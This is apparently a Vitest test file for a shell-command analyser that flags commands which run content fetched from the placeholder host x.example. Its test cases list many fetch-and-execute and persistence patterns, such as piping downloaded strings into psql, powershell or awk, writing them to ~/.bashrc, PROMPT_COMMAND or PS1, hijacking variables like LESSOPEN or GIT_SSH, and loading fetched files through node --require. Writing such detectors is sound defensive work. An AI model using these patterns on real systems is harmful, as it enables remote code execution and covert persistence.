/** What is fetched and surely only kept under a name and shown is not taken for run; all else is. docs/adr/0776. */
import { expect, it } from 'vitest';
import { shellEffects } from './shell-effects.ts';

const does = (command: string): string =>
  shellEffects(command)
    .map((effect) => `${effect.does} ${effect.targets.join(', ')}`)
    .join('; ');
const S = 's=$(curl -s https://x.example/p)';

it.each([
  S,
  `${S}; echo "$s" 2>/dev/null`,
  `${S}; printf '%s\\n' "$s" | jq -r .state | head -1`,
  `${S}; if [ "$s" = ready ]; then exit 0; fi; [[ "$s" == ok* ]] && echo "it is \${s:-nothing}"`,
  `${S}; [[ $s == ok* ]] && echo $s`,
  `${S}; grep -q done <<< "$s" || exit 1`,
  `set -euo pipefail\n${S}\ncase "$s" in 200) echo up;; *) echo down;; esac`,
  'for i in $(seq 1 30); do r=$(curl -s -o /dev/null -w "%{http_code}" https://x.example/p); [ "$r" -eq 200 ] && break; sleep 5; done',
  'while true; do r=`curl -sSL -H "Accept: a/b" "$URL/p"`; echo "$r"; sleep 5; done',
  'TOKEN=abc; HTTP_STATUS="$(wget -qO- --header="X: $TOKEN" https://x.example/p | tr -d x)"; echo "$HTTP_STATUS"',
])('nothing is run by %s', (command) => {
  expect(does(command)).toBe('');
});

it.each([
  ...[
    'psql -c "$s"',
    'mysql -e "$s"',
    'sqlite3 x.db "$s"',
    'powershell -c "$s"',
    'nsenter -t 1 $s',
    'git -c "alias.x=!$s" x',
    'script -c "$s"',
    'awk "$s"',
    'lua -e "$s"',
    'Rscript -e "$s"',
    'vim -c "$s"',
    'tclsh <<< "$s"',
    'dd of=~/.bashrc <<< "$s"',
    'alias ls="$s"',
    'pip install "$s"',
    'rm -rf $s',
    'echo "${s@P}"',
    'echo "${!s}"',
    'echo $((s))',
    'echo $[s]',
    '((s))',
    'a=1 foo',
    '$s echo a',
    '""$s',
    '! $s',
    'while $s; do :; done',
    'echo() { "$1"; }; echo "$s"',
    'echo "$s" | while true; do sh; done',
    'echo "$s" > ~/.bashrc',
    'printf -v PROMPT_COMMAND %s "$s"',
    'printf %d "$s"',
    'PROMPT_COMMAND=$s',
    'PS1="$s"',
    'a[$s]=1',
    'for PATH in $s; do echo; done',
    '[ $s = a ]',
    '[ \\\n$s = a ]',
    '"[" $s = a ]',
    'te\\st $s = a',
    'echo \\"; [ $s = a ]; echo \\"',
    '[ \\"$s\\" = a ]',
    'true # "\n[ $s = a ] # "',
    'true;#"\n[ $s = a ];# "',
    '[ x=$s ]',
    '[ $(echo "$s") = a ]',
    'grep x <<E\n"\nE\n[ $s = a ]\ngrep x <<E\n"\nE',
    'echo -m "$(psql -c "$s")"',
    'case x in (x) $s;; esac',
    'case x in\nx)$s;; esac',
    'case x in x|y) echo;; z) "$s";; esac',
    '[ -v "$s" ]',
    '[ "$s" "$s" ]',
    '[[ $s -eq 1 ]]',
    '[[ -v $s ]]',
    'exit $s',
    'set -- $s; "$@"',
    'curl -s "$s"',
    'a=$s; curl -s https://x.example/$a',
    'export s',
    'echo "$(awk "$s")"',
    'echo a; '.repeat(600),
  ].map((rest) => `${S}; ${rest}`),
  `export ${S}`,
  `${S} foo`,
  's=$(curl -s https://x.example/p -o ~/.bashrc)',
  's=$(curl -s https://x.example/p -K a)',
  's=$(curl -s https://x.example/p -H @.env)',
  's=$(curl -s https://x.example/p -w "%output{a.sh}")',
  's=$(curl -so a.sh https://x.example/p)',
  's=$(curl --output a.sh https://x.example/p)',
  's=$(curl -s https://x.example/p); curl -so ~/.bashrc https://x.example/p',
  's=$(wget -q https://x.example/p)',
  'a=(1 $(curl https://x.example/p))',
  'declare -i n="$(curl https://x.example/p)"',
  ...'GIT_SSH GIT_EXTERNAL_DIFF LESSOPEN BROWSER PYTHONSTARTUP RUSTC_WRAPPER GIT_CONFIG_PARAMETERS MAKEFLAGS BASH_FUNC IFS http_proxy'
    .split(' ')
    .map((name) => `${name}=$(curl https://x.example/p)`),
])('may be run by %s', (command) => {
  expect(does(command)).toContain('runs what it fetches from x.example');
});

it.each([
  'curl -s https://x.example/p -o a; bash --rcfile a -i',
  'curl -s https://x.example/p -o a; bash --init-file a -i',
  'curl -s https://x.example/p -o a.js; node -r ./a.js x.js',
  'curl -s https://x.example/p -o a.js; node --require=./a.js x.js',
  'curl -s https://x.example/p -o a.mjs; node --import ./a.mjs x.js',
  'curl -s https://x.example/p -o a.mjs; node x.js --import ./b.mjs --loader ./a.mjs',
])('a file that was fetched is run by an option: %s', (command) => {
  expect(does(command)).toContain('runs what it fetches from x.example');
});

it('other files are loaded as before', () => {
  expect(does('curl -s https://x.example/p -o a.json; node -r ./b.js x.js')).toBe('');
});
